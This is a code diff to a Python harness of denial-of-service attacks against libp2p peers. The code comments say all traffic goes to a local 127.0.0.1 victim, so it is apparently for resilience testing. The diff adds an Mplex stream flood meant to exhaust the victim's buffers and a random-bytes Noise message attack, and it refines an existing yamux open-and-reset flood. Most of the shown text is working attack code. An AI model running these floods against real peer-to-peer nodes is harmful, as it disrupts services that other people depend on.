@@ -11,6 +11,7 @@ Everything goes to 127.0.0.1 only: the victim's own address.
 from __future__ import annotations
 
 import contextlib
+import os
 import struct
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
@@ -73,8 +74,18 @@ async def muxed_connection(victim_addr: str, muxer: str = "yamux") -> AsyncItera
     async with host.run([multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
         with trio.fail_after(30):
             await host.connect(info)
-        connections = host.get_network().get_connections(info.peer_id)
-        yield connections[0].muxed_conn
+        muxed = host.get_network().get_connections(info.peer_id)[0].muxed_conn
+        if isinstance(muxed, Mplex):
+            # The library's Mplex writes are not serialized, and two writers at once garble
+            # the Noise session: the attacker's frames must arrive as it sent them.
+            write, lock = muxed.write_to_stream, trio.Lock()
+
+            async def write_to_stream(data: bytes) -> None:
+                async with lock:
+                    await write(data)
+
+            muxed.write_to_stream = write_to_stream
+        yield muxed
 
 
 async def send_raw(muxed: Any, data: bytes) -> bool:
@@ -143,10 +154,11 @@ async def yamux_open_and_reset(victim_addr: str, seconds: float) -> dict[str, An
                     stream_id += 2000
                     syns = b"".join(yamux_frame(WINDOW_UPDATE, SYN, i, 0) for i in ids)
                     resets = b"".join(yamux_frame(WINDOW_UPDATE, RST, i, 0) for i in ids)
-                    if not await send_raw(muxed, syns):
+                    # (writes to a connection the victim closed vanish without an error)
+                    if closed(muxed) or not await send_raw(muxed, syns):
                         break
                     await trio.sleep(0.05)
-                    if not await send_raw(muxed, resets):
+                    if closed(muxed) or not await send_raw(muxed, resets):
                         break
                     opened += len(ids)
     return {"streams_opened": opened, "connections": connections}
@@ -295,3 +307,48 @@ async def _read_to_the_end(stream: Any) -> None:
             pass
     except Exception:
         return  # reset, or closed: ended either way
+
+
+async def mplex_unread_stream(victim_addr: str, seconds: float) -> dict[str, Any]:
+    """An Mplex stream for identify (the victim answers and never reads it again), then 64 KiB
+    messages on it as fast as the connection takes them: Mplex has no window, so only the
+    victim's per-stream buffer bound stops it. A new stream each time the victim resets one,
+    for ``seconds``."""
+    sent = streams = 0
+    async with muxed_connection(victim_addr, "mplex") as muxed:
+        channel = 100_000
+        with trio.move_on_after(seconds):
+            while not closed(muxed):
+                channel += 1
+                streams += 1
+                hello = delimited(MULTISTREAM) + delimited(b"/ipfs/id/1.0.0\n")
+                opening = mplex_frame(channel, MPLEX_NEW_STREAM, b"") + mplex_frame(
+                    channel, MPLEX_MESSAGE_INITIATOR, hello
+                )
+                if not await send_raw(muxed, opening):
+                    break
+                message = mplex_frame(channel, MPLEX_MESSAGE_INITIATOR, b"x" * 65536)
+                # Until the victim resets it (it answers RST, which the attacker's muxer reads),
+                # 6 s at most: the victim's reader bound is 5 s.
+                with trio.move_on_after(6):
+                    for _ in range(2000):
+                        if not await send_raw(muxed, message):
+                            break
+                        sent += len(message)
+    return {"sent_mib": round(sent / 2**20, 1), "streams": streams}
+
+
+async def garbled_noise(victim_addr: str, muxer: str, seconds: float) -> dict[str, Any]:
+    """After the handshake, a Noise message that fails authentication (random bytes), on a new
+    connection each time the victim closes one, for ``seconds``."""
+    connections = closed_by_victim = 0
+    with trio.move_on_after(seconds):
+        while True:
+            connections += 1
+            async with muxed_connection(victim_addr, muxer) as muxed:
+                packets = muxed.secured_conn.conn.read_writer  # under the Noise encryption
+                with contextlib.suppress(Exception):
+                    await packets.write_msg(os.urandom(64))
+                await _until_closed(muxed)
+                closed_by_victim += closed(muxed)
+    return {"connections": connections, "closed_by_victim": closed_by_victim}
